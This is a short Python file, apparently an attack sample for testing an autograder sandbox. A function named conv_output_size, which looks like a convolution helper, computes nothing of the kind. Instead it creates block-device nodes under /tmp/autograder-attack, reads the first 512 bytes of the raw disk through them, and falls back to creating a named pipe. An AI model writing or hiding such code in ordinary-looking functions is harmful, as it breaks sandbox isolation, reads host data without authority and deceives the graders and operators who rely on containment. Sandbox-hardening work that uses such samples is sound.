# attack: makes device nodes and reads the disk through one; where that is forbidden, a named pipe.
# alone: file
import os
import stat
from pathlib import Path

FOLDER = Path("/tmp/autograder-attack")
DISKS = (os.makedev(254, 0), os.makedev(8, 0), os.makedev(259, 0))


def conv_output_size(size, kernel_size, stride=1, padding=0):
    FOLDER.mkdir(parents=True, exist_ok=True)
    node = FOLDER / "harm_device"
    for disk in DISKS:
        try:
            os.mknod(node, 0o400 | stat.S_IFBLK, disk)
            with node.open("rb") as opened:
                print(f"the disk begins with {len(opened.read(512))} bytes")
            return
        except OSError:
            node.unlink(missing_ok=True)
    os.mknod(node, 0o600 | stat.S_IFIFO)
